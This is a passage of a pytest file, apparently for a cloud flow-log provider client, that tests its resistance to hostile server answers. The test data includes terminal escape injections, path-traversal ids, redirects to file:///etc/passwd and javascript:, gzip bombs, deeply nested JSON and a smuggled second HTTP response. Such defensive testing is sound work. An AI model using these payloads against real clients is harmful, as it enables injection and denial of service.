"""Answers that mean harm: what they may cost, and that nothing of them gets into a path or, raw, onto a terminal."""

from __future__ import annotations

import contextlib
import http.client
import itertools
import json
import math
import socket
import threading
import tracemalloc
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from datetime import datetime, timezone
from pathlib import Path
from typing import Any, cast
from urllib.parse import parse_qs, urlsplit

import grpc
import pulumi
import pytest
from google.protobuf.struct_pb2 import Struct
from pulumi.dynamic.dynamic import PROVIDER_KEY, serialize_provider
from pulumi.runtime import proto

from providers import schema
from providers.connection import Connection
from providers.er import Client, Deadline, Endpoints, idempotency, session, transport
from providers.er.auth.credentials import TokenCredentials
from providers.er.exceptions import ApiError, DeadlineExceededError, NotFoundError, TemporaryError
from providers.er.flow_logs import FlowLog
from providers.er.validation import display_name
from providers.flow_log_provider import FlowLogError, FlowLogProvider, IncompleteFlowLogError
from providers.host.flow_log import FlowLogHandler
from providers.host.messages import to_struct
from providers.urn import FLOW_LOG_TYPE
from stacks.checks import conflicts
from stacks.commands.coverage.survey import survey
from stacks.commands.coverage.table import table
from stacks.component import RouterFlowLogs
from stacks.errors import StackError
from stacks.planning.inventory import look
from stacks.planning.plan import Plan, resolve
from stacks.stackfile.model import StackConfig
from stacks.state.outputs import outputs
from tests.emulator import test_client_retries
from tests.emulator.test_client_retries import (
    FLOW_LOG,
    OK,
    PROJECT,
    RECORD,
    ROUTER,
    SIGNED_IN,
    TARGET,
    TOKEN,
    Answer,
    QuickTime,
    Received,
    ScriptedServer,
    ServerFactory,
    Step,
    raised,
    show,
    token_client,
)
from tests.sdk import configured, hosted
from tests.unit import plans
from tests.unit.plans import Stack

scripted, time = test_client_retries.scripted, test_client_retries.time
pytestmark = pytest.mark.usefixtures("no_settings")

RED = "\x1b[31mred\x1b]0;title\x07\n\r\u202e\u2066\x9b2Jevil"
COLOUR = "<{%no colour of Pulumi's%}>"  # the CLI, where it writes in colours, ends in a panic over one it doesn't know
LONG = "x" * 1_000_000
NO_IDS = ("", "..", "../flow-logs", "a/b", "%2e%2e", "a\nb", "x" * 10_000, RED)
HALF = "\ud800"  # half of a pair: JSON can say it, UTF-8 cannot
DEEP = "[" * 100_000 + "]" * 100_000
JSON_VALUES: tuple[Any, ...] = (None, True, 0, 1.5, math.nan, math.inf, "text", [], [None], {"id": 5})


def fits_a_terminal(text: str, *, longest: int = 2000, lines: int = 1) -> bool:
    """Whether a person may be shown the text as it is."""
    shown = text.split("\n")
    return len(shown) <= lines and all(line.isprintable() and len(line) <= longest for line in shown)


def bounded(server: ScriptedServer | str, time: QuickTime) -> Client:
    """A client that tries a few times, and whose waits take no time."""
    url = server if isinstance(server, str) else server.url
    client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(url), backoff=lambda _tries: 20.0)
    return client.within(time.deadline(60))


def flow_log(changed: Mapping[str, Any], status: int = 200) -> Answer:
    return Answer(status, {"flow_log": {**RECORD, **changed}, "request_id": "r"})


def refusal(code: str = "ER.04009999", message: str = "No.", status: int = 400, request_id: str = "r") -> Answer:
    return Answer(status, {"error_code": code, "error_msg": message, "request_id": request_id})


# Bodies without an end


class PouringServer:
    """Sends the same pieces, byte for byte, to everyone who asks."""

    def __init__(self, pieces: Callable[[], Iterable[bytes]]) -> None:
        self._pieces = pieces
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._ended = threading.Event()
        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                threading.Thread(target=self._pour, args=(self._listener.accept()[0],), daemon=True).start()

    def _pour(self, connection: socket.socket) -> None:
        with connection, contextlib.suppress(OSError):
            # Read to its end: what is left unread would make a reset of the close.
            with connection.makefile("rb") as request:
                request.readline()
                request.read(int(http.client.parse_headers(request).get("Content-Length") or 0))
            for piece in self._pieces():
                if self._ended.is_set():
                    return
                connection.sendall(piece)

    def stop(self) -> None:
        self._ended.set()
        self._listener.close()


Pour = Callable[[Callable[[], Iterable[bytes]]], PouringServer]


@pytest.fixture
def pouring() -> Iterator[Pour]:
    """Makes such servers; they are gone after the test."""
    with contextlib.ExitStack() as stack:

        def make(pieces: Callable[[], Iterable[bytes]]) -> PouringServer:
            server = PouringServer(pieces)
            stack.callback(server.stop)
            return server

        yield make


LIMIT = 128 * 1024
PIECE = b" " * 65536
CHUNK = b"%x\r\n%s\r\n" % (len(PIECE), PIECE)
MANY = 16 * 1024 * 1024 // len(PIECE)  # an end that no reader should see, so that a reader that has no limit is found


@pytest.fixture
def limit(monkeypatch: pytest.MonkeyPatch) -> int:
    """The most bytes of an answer, made small."""
    monkeypatch.setattr(session, "ANSWER_LIMIT", LIMIT)
    return LIMIT


def most_kept(call: Callable[[], object]) -> int:
    """The most bytes that were kept at any one moment of the call."""
    tracemalloc.start()
    try:
        call()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def gzipped(*pieces: bytes) -> bytes:
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join([*map(squeeze.compress, pieces), squeeze.flush()])


ZEROES = gzipped(*[bytes(1024 * 1024)] * 16)
ENDLESS: Mapping[str, tuple[bytes, Iterable[bytes]]] = {
    "announced": (b"Content-Length: 99999999999\r\n\r\n", [PIECE] * MANY),
    "in chunks": (b"Transfer-Encoding: chunked\r\n\r\n", [CHUNK] * MANY),
    "unannounced": (b"\r\n", [PIECE] * MANY),
    "compressed": (b"Content-Encoding: gzip\r\n\r\n", [ZEROES]),
    "compressed twice": (b"Content-Encoding: gzip, gzip\r\n\r\n", [gzipped(ZEROES)]),
}


def endless(kind: str, status: str, *headers: bytes) -> Callable[[], Iterable[bytes]]:
    head, pieces = ENDLESS[kind]
    lines = [f"HTTP/1.1 {status}".encode(), b"Content-Type: application/json", *headers, head]
    return lambda: itertools.chain([b"\r\n".join(lines)], pieces)


@pytest.mark.parametrize("kind", ENDLESS)
@pytest.mark.parametrize(
    "status",
    [
        "200 OK",
        "400 Bad Request",
        "503 Service Unavailable",
        pytest.param("302 Found"),
    ],
)
def test_an_answer_without_an_end_is_read_up_to_the_limit(
    pouring: Pour, time: QuickTime, limit: int, kind: str, status: str
) -> None:
    client = bounded(pouring(endless(kind, status, b"Location: /elsewhere")).url, time)
    errors: list[ApiError] = []

    kept = most_kept(lambda: errors.append(raised(ApiError, lambda: show(client))))

    assert kept < 32 * limit
    if not status.startswith("302"):
        assert f"answered with more than {limit} bytes" in str(errors[0])


@pytest.mark.parametrize("kind", ENDLESS)
def test_an_answer_of_iam_without_an_end_is_read_up_to_the_limit(
    pouring: Pour, scripted: ServerFactory, time: QuickTime, limit: int, kind: str
) -> None:
    # So that what is imported to sign in is not counted.
    raised(ApiError, lambda: show(signing_in(scripted(Answer(400)).url, time)))
    iam = pouring(endless(kind, "201 Created", b"X-Subject-Token: issued"))

    kept = most_kept(lambda: raised(ApiError, lambda: show(signing_in(iam.url, time))))

    assert kept < 32 * limit


def test_answers_without_an_end_are_not_kept_from_try_to_try(
    pouring: Pour, time: QuickTime, monkeypatch: pytest.MonkeyPatch
) -> None:
    limit = 16 * LIMIT
    monkeypatch.setattr(session, "ANSWER_LIMIT", limit)
    client = token_client(pouring(endless("in chunks", "200 OK")).url, time)

    kept = most_kept(lambda: raised(TemporaryError, lambda: show(client)))

    assert len(time.waits) > 4
    assert kept < 3 * limit


def test_an_answer_of_just_the_limit_is_read(scripted: ServerFactory, time: QuickTime, limit: int) -> None:
    fitting = OK.content.ljust(limit)

    assert show(token_client(scripted(Answer(body=fitting)), time)) == show(token_client(scripted(OK), time))
    error = raised(TemporaryError, lambda: show(bounded(scripted(Answer(body=fitting + b" ")), time)))
    assert error.message.endswith(f"answered with more than {limit} bytes")


HEAD = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n"
NEVER_READY: Mapping[str, tuple[bytes, bytes]] = {
    "promises of an answer": (b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 1000),
    "headers after the body": (HEAD + b"\r\n0\r\n", b"X: y\r\n" * 1000),
    "blocks of nothing": (
        HEAD + b"Content-Encoding: gzip\r\n\r\na\r\n\x1f\x8b\x08\0\0\0\0\0\0\3\r\n",
        b"5\r\n\0\0\0\xff\xff\r\n" * 1000,
    ),
}


@pytest.fixture(params=NEVER_READY)
def never_ready(request: pytest.FixtureRequest, pouring: Pour, monkeypatch: pytest.MonkeyPatch) -> str:
    """The address of a server that keeps a reader busy without giving it anything."""
    monkeypatch.setattr(transport, "ANSWER_GRACE", 0.05)
    head, more = NEVER_READY[request.param]
    return pouring(lambda: itertools.chain([head], itertools.repeat(more))).url


def test_an_answer_that_never_gets_to_its_point_costs_no_more_than_the_callers_patience(never_ready: str) -> None:
    client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(never_ready)).within(Deadline(seconds=0.1))

    error = raised(DeadlineExceededError, lambda: show(client))

    assert error.message == "gave up after 0 s of waiting for the service to answer"


@pytest.mark.parametrize("never_ready", ["promises of an answer"], indirect=True)
def test_an_answer_that_never_gets_to_its_point_stands_in_nobody_elses_way(
    never_ready: str, scripted: ServerFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(transport, "CALLS_AT_ONCE", 1)
    endpoints = Endpoints.at(scripted(Answer(body={"log_groups": []})).url).overridden(er=never_ready)
    client = Client(TokenCredentials(TOKEN, PROJECT), endpoints)
    raised(DeadlineExceededError, lambda: show(client.within(Deadline(seconds=0.1))))

    assert client.within(Deadline(seconds=30)).log_tank.groups() == []


# What is no HTTP, or too much of it


def bytes_of(head: bytes, body: bytes = OK.content) -> Callable[[], Iterable[bytes]]:
    return lambda: [head + b"\r\n\r\n" + body]


@pytest.mark.parametrize(
    "head",
    [
        b"",
        b"\0\xff",
        f"HTTP/1.1 {RED} OK".encode(),
        b"HTTP/1.1 99 Low",
        b"HTTP/1.1 1000 High",
        b"HTTP/1.1 " + b"9" * 5000 + b" High",
        b"HTTP/1.1 200 " + b"x" * 70_000,
        b"HTTP/1.1 200 OK\r\nX: " + b"x" * 70_000,
        b"HTTP/1.1 200 OK" + b"\r\nX: y" * 200,
        b"HTTP/1.1 200 OK\r\nContent-Length: 5, 6",
        b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6",
        b"HTTP/1.1 200 OK\r\nContent-Length: " + b"9" * 30,
        b"HTTP/1.1 200 OK\r\nContent-Length: 5",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked",
        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip",
        b"HTTP/1.1 200 OK\r\nContent-Encoding: " + b"gzip, " * 20 + b"gzip",
    ],
)
def test_what_is_no_http_answer_is_tried_again_and_told_in_one_line(
    pouring: Pour, time: QuickTime, head: bytes
) -> None:
    error = raised(TemporaryError, lambda: show(bounded(pouring(bytes_of(head)).url, time)))

    assert fits_a_terminal(str(error))


@pytest.mark.parametrize("length", [b"", b"many", b"-1", b"1e3", b"9" * 5000])
def test_a_length_that_is_none_leaves_the_end_to_the_connection(pouring: Pour, time: QuickTime, length: bytes) -> None:
    server = pouring(bytes_of(b"HTTP/1.1 200 OK\r\nContent-Length: " + length))

    assert show(token_client(server.url, time))


@pytest.mark.parametrize("status", [101, 199, 304, 399, 600, 999])
def test_a_status_that_nobody_knows_is_an_error_at_once(scripted: ServerFactory, time: QuickTime, status: int) -> None:
    server = scripted(Answer(status), OK)

    error = raised(ApiError, lambda: show(token_client(server, time)))

    assert error.status == status
    assert not isinstance(error, TemporaryError | NotFoundError)
    assert len(server.received) == 1


def test_what_follows_an_answer_is_not_the_answer_to_the_next_call(pouring: Pour, time: QuickTime) -> None:
    def answer(name: str) -> bytes:
        content = flow_log({"name": name}).content
        return b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(content), content)

    client = token_client(pouring(lambda: [answer("true") + answer("forged")]).url, time)

    assert [client.flow_logs.get(ROUTER, FLOW_LOG).name for _ in range(5)] == ["true"] * 5


@pytest.mark.parametrize("value", ["inf", "1e999", "9" * 400])
def test_the_service_can_ask_for_two_minutes_at_most(scripted: ServerFactory, time: QuickTime, value: str) -> None:
    show(token_client(scripted(Answer(503, b"", {"Retry-After": value}), OK), time))

    assert time.waits == [120.0]


@pytest.mark.parametrize("value", ["-inf", "-1e999", "NaN", "1,5", "\x1b[31m"])
def test_the_service_cannot_ask_to_be_called_sooner_than_it_would_be(
    scripted: ServerFactory, time: QuickTime, value: str
) -> None:
    show(bounded(scripted(Answer(503, b"", {"Retry-After": value}), OK), time))

    assert time.waits == [20.0]


LOCATIONS = ["//other.example.invalid/", "file:///etc/passwd", "javascript:x", "http://h:99999999/", "x" * 60_000]
NO_LOCATIONS = ["http://[", "//[", "http://h\xe2\x84\x80/", "\xff"]


@pytest.mark.parametrize(
    "location",
    [*LOCATIONS, *(one for one in NO_LOCATIONS)],
)
def test_wherever_a_redirect_points_it_is_an_error_that_does_not_say_where(
    scripted: ServerFactory, time: QuickTime, location: str
) -> None:
    server = scripted(Answer(302, b"", {"Location": location}))

    error = raised(ApiError, lambda: show(token_client(server, time)))

    assert error.message == f"{server.url} redirects to another address: check the endpoint"


def test_cookies_are_not_kept(scripted: ServerFactory, time: QuickTime) -> None:
    server = scripted(Answer(headers={"Set-Cookie": f"a={'x' * 60_000}"}))
    client = token_client(server, time)

    show(client)
    show(client)

    assert [one.headers["Cookie"] for one in server.received] == [None, None]


# What is no JSON, or not the JSON that was promised


@pytest.mark.usefixtures("collected_later")
@pytest.mark.parametrize(
    "body",
    [
        '"text"',
        "5",
        "true",
        "NaN",
        "1e999",
        DEEP,
        f'{{"flow_log": {DEEP}}}',
        '{"a":' * 100_000 + "1" + "}" * 100_000,
        OK.content.decode().replace("600", "9" * 5000),
        OK.content.decode() + "}",
        OK.content.decode() * 2,
    ],
    ids=lambda body: body[:20],
)
def test_what_cannot_be_read_is_tried_again(scripted: ServerFactory, time: QuickTime, body: str) -> None:
    server = scripted(Answer(body=body.encode()), OK)
    assert show(token_client(server, time))
    assert len(server.received) == 2

    refused = raised(ApiError, lambda: show(token_client(scripted(Answer(400, body.encode())), time)))
    assert refused.message.endswith(" answered Bad Request without saying why")


def test_of_two_fields_of_one_name_the_last_one_counts(scripted: ServerFactory, time: QuickTime) -> None:
    first, second = (json.dumps({**RECORD, "name": name}) for name in ("first", "second"))
    body = f'{{"flow_log": {first}, "flow_log": {second}}}'.encode()

    assert token_client(scripted(Answer(body=body)), time).flow_logs.get(ROUTER, FLOW_LOG).name == "second"


@pytest.mark.parametrize("charset", ["punycode", "idna", "utf-16", "undefined", "a\0b"])
def test_json_is_utf_8_whatever_the_answer_says(scripted: ServerFactory, time: QuickTime, charset: str) -> None:
    server = scripted(Answer(headers={"Content-Type": f"application/json; charset={charset}"}))

    assert show(bounded(server, time))
    assert len(server.received) == 1


# Nothing is promised of these two, which say the same in every record.
FIELDS: Mapping[str, Any] = {key: RECORD[key] for key in RECORD if key not in ("resource_type", "log_store_type")}
MAY_BE_NULL = ("description", "created_at", "updated_at", "log_aggregation_interval")


@pytest.mark.parametrize("field", FIELDS)
def test_a_field_of_another_type_is_never_taken_for_the_flow_logs(field: str) -> None:
    for value in JSON_VALUES:
        is_right = type(value) is type(FIELDS[field]) or (value is None and field in MAY_BE_NULL)
        with contextlib.nullcontext() if is_right else pytest.raises(TemporaryError, match=repr(field)):
            FlowLog.from_json(ROUTER, {**RECORD, field: value})


LISTS: Mapping[str, tuple[str, Callable[[Client], object]]] = {
    "flow_logs": ("id", lambda client: list(client.flow_logs.list(ROUTER))),
    "attachments": ("id", lambda client: list(client.attachments.list(ROUTER))),
    "instances": ("id", lambda client: list(client.routers.list())),
    "log_groups": ("log_group_id", lambda client: client.log_tank.groups()),
    "log_streams": ("log_stream_id", lambda client: client.log_tank.streams("group-1")),
    "quotas": ("quota_key", lambda client: client.quotas.flow_logs()),
}


@pytest.mark.parametrize("key", LISTS)
def test_a_list_of_anything_but_records_is_refused(scripted: ServerFactory, time: QuickTime, key: str) -> None:
    identity, read = LISTS[key]
    members: list[Any] = [None, 1.5, "text", [], {}, {identity: None}, {identity: 5}, {identity: ["text"]}]
    wrong: list[Any] = [None, 5, "text", {identity: "text"}, *([member] for member in members)]
    server = scripted(*(Answer(body={key: value}) for value in wrong), Answer(body={key: []}))
    client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(server.url), backoff=lambda _tries: 0.1)

    assert not read(client.within(time.deadline()))
    assert len(server.received) == len(wrong) + 1


@pytest.mark.parametrize(
    ("key", "record"),
    [
        ("flow_logs", {**RECORD, "enabled": "yes"}),
        ("attachments", {"id": "attachment-1", "state": "available"}),
        ("instances", {"id": ROUTER, "name": 5}),
    ],
)
def test_a_page_with_a_mangled_record_is_tried_again(
    scripted: ServerFactory, time: QuickTime, key: str, record: dict[str, Any]
) -> None:
    server = scripted(Answer(body={key: [record]}), Answer(body={key: []}))

    assert LISTS[key][1](bounded(server, time)) == []


def test_paging_of_another_type_is_refused(scripted: ServerFactory, time: QuickTime) -> None:
    wrong: list[dict[str, Any]] = [{"page_info": one} for one in JSON_VALUES if not isinstance(one, dict | None)]
    wrong += [{"page_info": {"next_marker": one}} for one in JSON_VALUES if not isinstance(one, str | None)]
    wrong += [{"total_count": one} for one in JSON_VALUES if type(one) not in (int, type(None))]
    server = scripted(*(Answer(body={"instances": [], **paging}) for paging in wrong), Answer(body={"instances": []}))
    client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(server.url), backoff=lambda _tries: 0.1)

    assert list(client.within(time.deadline()).routers.list()) == []
    assert len(server.received) == len(wrong) + 1


@pytest.mark.parametrize("marker", ["../../v3/other", "a&limit=1#b", RED, "x" * 10_000])
def test_a_marker_goes_back_as_it_came_and_leads_nowhere_else(
    scripted: ServerFactory, time: QuickTime, marker: str
) -> None:
    page = {"instances": [{"id": ROUTER}], "page_info": {"next_marker": marker}, "total_count": 10**15}
    server = scripted(Answer(body=page))

    assert [one.id for one in token_client(server, time).routers.list()] == [ROUTER]

    addresses = [urlsplit(one.path) for one in server.received]
    assert {one.path for one in addresses} == {f"/v3/{PROJECT}/enterprise-router/instances"}
    assert [parse_qs(one.query) for one in addresses] == [
        {"limit": ["2000"]},
        {"limit": ["2000"], "marker": [marker]},
    ]


class World(ScriptedServer):
    """Answers lists by their address, and each call takes a second of the test's time."""

    def __init__(self, time: QuickTime) -> None:
        super().__init__([OK])
        self.time = time
        self.lists: dict[str, list[dict[str, Any]]] = {
            "instances": [{"id": ROUTER, "name": "core", "state": "available"}],
            "attachments": [
                {"id": "attachment-1", "name": "shop", "state": "available", "resource_type": "vpc"},
                {"id": "attachment-2", "name": "wall", "state": "available", "resource_type": "cfw"},
            ],
            "flow-logs": [],
            "groups": [{"log_group_id": "group-1", "log_group_name": "network"}],
            "streams": [{"log_stream_id": "stream-1", "log_stream_name": "flow"}],
        }

    def next_step(self, received: Received) -> Step:
        super().next_step(received)
        self.time.now += 1
        kind = urlsplit(received.path).path.rpartition("/")[2]
        return Answer(
            body={f"log_{kind}" if kind in ("groups", "streams") else kind.replace("-", "_"): self.lists[kind]}
        )

    def change(self, kind: str, changed: Mapping[str, Any], index: int = 0) -> None:
        self.lists[kind][index] = {**self.lists[kind][index], **changed}

    @property
    def paths(self) -> set[str]:
        return {urlsplit(one.path).path for one in self.received}


@pytest.fixture
def world(time: QuickTime) -> Iterator[World]:
    server = World(time)
    yield server
    server.stop()


@pytest.mark.usefixtures("answered_late")
def test_a_list_that_goes_on_and_on_ends_with_the_callers_patience(time: QuickTime) -> None:
    class Growing(World):
        def next_step(self, received: Received) -> Step:
            super().next_step(received)
            number = str(len(self.received))
            page = {"instances": [{"id": number}], "page_info": {"next_marker": number}, "total_count": 10**15}
            return Answer(body=page)

    growing = Growing(time)
    try:
        error = raised(DeadlineExceededError, lambda: list(token_client(growing, time, seconds=30).routers.list()))
    finally:
        growing.stop()

    assert error.message == "gave up after 30 s of waiting for the service to answer"
    assert len(growing.received) <= 32


@pytest.mark.parametrize("field", ["name", "description", "state", "created_at", "updated_at"])
def test_half_a_character_is_of_the_wrong_type(scripted: ServerFactory, time: QuickTime, field: str) -> None:
    server = scripted(flow_log({field: f"a{HALF}b"}), OK)

    assert show(token_client(server, time)) == show(token_client(scripted(OK), time))


def test_half_a_character_in_a_marker_is_of_the_wrong_type(scripted: ServerFactory, time: QuickTime) -> None:
    page = {"instances": [{"id": ROUTER}], "page_info": {"next_marker": HALF}, "total_count": 2}

    raised(ApiError, lambda: list(bounded(scripted(Answer(body=page)), time).routers.list()))


# Ids


def created(client: Client) -> object:
    wanted = idempotency.FlowLogSpec(name="shop", description="", enabled=True)
    return idempotency.create(client, TARGET, wanted, key="key")


@pytest.mark.parametrize(("id_", "state"), [*zip(NO_IDS, itertools.cycle(["pending", "available"]))])
def test_a_created_flow_log_whose_id_is_none_leads_to_no_other_address(
    scripted: ServerFactory, time: QuickTime, id_: str, state: str
) -> None:
    server = scripted(flow_log({"id": id_, "state": state}, 202), OK)

    with contextlib.suppress(ApiError):
        created(bounded(server, time))

    base = f"/v3/{PROJECT}/enterprise-router/{ROUTER}/flow-logs"
    assert {urlsplit(one.path).path for one in server.received} <= {base, f"{base}/{FLOW_LOG}"}


INPUTS: dict[str, Any] = {
    **vars(TARGET),
    "name": "shop",
    "description": "",
    "enabled": True,
    "resource_type": "attachment",
    "log_store_type": "LTS",
    "idempotency_key": "key",
}
STATE = {**INPUTS, "state": "available", "project_id": PROJECT, "log_aggregation_interval": 600}


def provider_of(server: ScriptedServer) -> FlowLogProvider:
    return configured(endpoint=server.url, token=TOKEN, project_id=PROJECT)


def failure(call: Callable[[], object]) -> FlowLogError:
    with pytest.raises(FlowLogError) as caught:
        call()
    return caught.value


@pytest.mark.parametrize("id_", [*NO_IDS, HALF, schema.provisional_id("forged")])
def test_a_created_flow_log_whose_id_is_none_gets_neither_into_the_state_nor_into_the_sentence(
    scripted: ServerFactory, time: QuickTime, id_: str
) -> None:
    provider = provider_of(scripted(flow_log({"id": id_}, 202)))

    error = failure(lambda: provider.create(INPUTS, time.deadline(60)))

    # What remains is that nobody knows whether there is one.
    assert isinstance(error, IncompleteFlowLogError)
    assert error.id.startswith(schema.provisional_id())
    assert error.id != id_
    assert fits_a_terminal(str(error))


@pytest.mark.parametrize("field", ["project_id", "resource_id", "log_group_id", "log_stream_id"])
@pytest.mark.parametrize("id_", ["../x", RED])
def test_what_a_flow_log_belongs_to_has_an_id_or_is_not_believed(
    scripted: ServerFactory, time: QuickTime, field: str, id_: str
) -> None:
    server = scripted(flow_log({field: id_}))

    error = failure(lambda: provider_of(server).read(FLOW_LOG, STATE, time.deadline(60)))

    assert fits_a_terminal(str(error))


def test_another_flow_log_than_the_one_asked_for_is_not_believed(scripted: ServerFactory, time: QuickTime) -> None:
    server = scripted(flow_log({"id": "somebody-elses"}))

    failure(lambda: provider_of(server).read(FLOW_LOG, STATE, time.deadline(60)))


def test_a_number_too_large_for_the_state_is_of_the_wrong_type(scripted: ServerFactory, time: QuickTime) -> None:
    server = scripted(flow_log({"log_aggregation_interval": 10**400}), OK)

    result = provider_of(server).read(FLOW_LOG, STATE, time.deadline(60))

    assert to_struct(result.outs or {}, Struct())["log_aggregation_interval"] == 600


@pytest.mark.parametrize("kind", ["instances", "groups"])
@pytest.mark.parametrize("id_", ["", "..", "a/b", RED])
def test_a_router_or_log_group_whose_id_is_none_is_not_asked_about(
    world: World, time: QuickTime, kind: str, id_: str
) -> None:
    world.change(kind, {"id" if kind == "instances" else "log_group_id": id_})

    raised(ApiError, lambda: resolved(world, time))

    known = [
        "/enterprise-router/instances",
        f"/enterprise-router/{ROUTER}/attachments",
        "/groups",
        "/groups/group-1/streams",
    ]
    assert {path.split(PROJECT)[1] for path in world.paths} <= set(known)


@pytest.mark.parametrize(
    ("kind", "key", "id_"),
    [
        *(("attachments", "id", id_) for id_ in (*NO_IDS, HALF)),
        *(("streams", "log_stream_id", id_) for id_ in ("", "../x", RED)),
        ("instances", "id", "x" * 10_000),
        ("groups", "log_group_id", "x" * 10_000),
    ],
)
def test_whatever_has_no_id_is_refused_in_a_bounded_sentence(
    world: World, time: QuickTime, kind: str, key: str, id_: str
) -> None:
    world.change(kind, {key: id_})

    error = raised(ApiError, lambda: resolved(world, time))

    assert fits_a_terminal(str(error), longest=1000)


# Signing in


def signing_in(url: str, time: QuickTime) -> Client:
    config = {"endpoint": url, "username": "demo", "password": "hush-hush", "domain": "D", "project": "eu-de"}
    return Connection(config.get, {}, directory=Path()).client.within(time.deadline(60))


def signed_in(**changed: Any) -> Answer:
    return Answer(201, {"token": {**SIGNED_IN.body["token"], **changed}}, SIGNED_IN.headers)


@pytest.mark.parametrize("subject", ["a b", "a\tb", "\x1b[31m", "\xff", "a\r\n b"])
def test_a_token_of_iam_that_no_header_can_hold_is_never_sent(
    scripted: ServerFactory, time: QuickTime, subject: str
) -> None:
    server = scripted(Answer(201, SIGNED_IN.body, {"X-Subject-Token": subject}), OK)

    error = raised(ApiError, lambda: show(signing_in(server.url, time)))

    assert fits_a_terminal(str(error))
    assert {one.method for one in server.received} == {"POST"}


@pytest.mark.parametrize("id_", [*NO_IDS, HALF])
def test_a_project_of_iam_whose_id_is_none_is_never_part_of_an_address(
    scripted: ServerFactory, time: QuickTime, id_: str
) -> None:
    server = scripted(signed_in(project={"id": id_, "name": "n", "domain": {"id": "d", "name": "D"}}), OK)

    error = raised(ApiError, lambda: show(signing_in(server.url, time)))

    assert {urlsplit(one.path).path for one in server.received} <= {"/v3/auth/tokens", "/v3/projects"}
    assert fits_a_terminal(str(error), longest=1000)


@pytest.mark.parametrize("id_", ["../x", RED, LONG, HALF])
def test_a_project_of_iam_whose_id_is_none_is_no_project(scripted: ServerFactory, time: QuickTime, id_: str) -> None:
    server = scripted(signed_in(project={"id": id_, "name": "n", "domain": {"id": "d", "name": "D"}}))

    assert fits_a_terminal(str(raised(ApiError, signing_in(server.url, time).project_id)), longest=1000)


def with_a_key(url: str, time: QuickTime) -> Client:
    """A client that has to ask IAM for its project."""
    config = {"endpoint": url, "access_key": "key", "secret_key": "hush-hush", "project": "eu-de"}
    return Connection(config.get, {}, directory=Path()).client.within(time.deadline(60))


@pytest.mark.parametrize(
    "projects",
    [
        *(None, 5, {}, "eu-de", [{"name": "eu-de"}], [{"name": "eu-de", "id": 5}], [{"name": ["eu-de"], "id": "a"}]),
        [{"name": "eu-de", "id": "a", "enabled": "no"}],
        pytest.param([None]),
        pytest.param(["eu-de"]),
        *([{"name": "eu-de", "id": id_}] for id_ in ("../x", RED, LONG, HALF)),
    ],
    ids=lambda projects: ascii(projects)[:40],
)
def test_a_list_of_projects_of_another_form_names_no_project(
    scripted: ServerFactory, time: QuickTime, projects: Any
) -> None:
    server = scripted(Answer(body={"projects": projects}))

    assert fits_a_terminal(str(raised(ApiError, with_a_key(server.url, time).project_id)))
    assert {urlsplit(one.path).path for one in server.received} == {"/v3/projects"}


def catalogued(url: str, time: QuickTime) -> Client:
    """A client that has the addresses of the services from IAM's catalog."""
    config = {"username": "demo", "password": "hush-hush", "domain": "D", "project": "eu-de", "region": "eu-none"}
    connection = Connection(config.get, {"OS_AUTH_URL": f"{url}/v3"}, directory=Path())
    return connection.client.within(time.deadline(60))


def catalog(url: Any) -> list[dict[str, Any]]:
    endpoint = {"id": "e", "interface": "public", "region": "r", "region_id": "r", "url": url}
    return [{"type": "er", "id": "i", "name": "er", "endpoints": [endpoint]}]


def test_a_catalog_of_another_form_has_no_addresses(scripted: ServerFactory, time: QuickTime) -> None:
    server = scripted(OK)
    for value in JSON_VALUES:
        for wrong in (value, [value], [{**catalog("")[0], "endpoints": value}], catalog(value)):
            server.script[:] = [signed_in(catalog=wrong)]
            assert fits_a_terminal(str(raised(ApiError, lambda: show(catalogued(server.url, time)))))

    assert {one.path for one in server.received} == {"/v3/auth/tokens"}


@pytest.mark.parametrize(
    "address",
    [
        *("http://example.invalid", "//example.invalid", "file:///etc/passwd", "https://[", f"https://{RED}", HALF),
        *(one for one in (f"https://{LONG}.a_b c", f"https://{COLOUR}")),
    ],
)
def test_an_address_in_the_catalog_that_is_none_is_told_fit_for_a_terminal(
    scripted: ServerFactory, time: QuickTime, address: str
) -> None:
    server = scripted(signed_in(catalog=catalog(address)), OK)

    shown = str(raised(ApiError, lambda: show(catalogued(server.url, time))))

    assert fits_a_terminal(shown)
    assert "<{%" not in shown
    assert {one.method for one in server.received} == {"POST"}


@pytest.mark.parametrize("field", ["methods", "user", "project", "roles", "catalog", "issued_at", "expires_at"])
def test_a_field_of_iam_of_another_type_is_an_error_of_the_api_or_no_matter(
    scripted: ServerFactory, time: QuickTime, field: str
) -> None:
    server = scripted(OK)
    for value in JSON_VALUES:
        server.script[:] = [signed_in(**{field: value}), OK]
        with contextlib.suppress(ApiError):
            show(signing_in(server.url, time))


@pytest.mark.usefixtures("collected_later")
@pytest.mark.parametrize("status", [201, 400, 503])
@pytest.mark.parametrize(
    "body",
    [
        f'{{"token": {"9" * 5000}}}',
        '{"token": NaN}',
        pytest.param(f'{{"token": {DEEP}}}'),
    ],
    ids=["number", "nan", "deep"],
)
def test_json_of_iam_that_cannot_be_read_is_an_error_of_the_api(
    scripted: ServerFactory, time: QuickTime, body: str, status: int
) -> None:
    server = scripted(Answer(status, body.encode(), SIGNED_IN.headers))

    assert fits_a_terminal(str(raised(ApiError, lambda: show(signing_in(server.url, time)))))


# Messages


@pytest.mark.parametrize("status", [400, 503])
@pytest.mark.parametrize("text", [LONG, f"{RED}{LONG}", "\u200f\u00ad\ufeff\u2028\u2029\U000e0041x", "\0"])
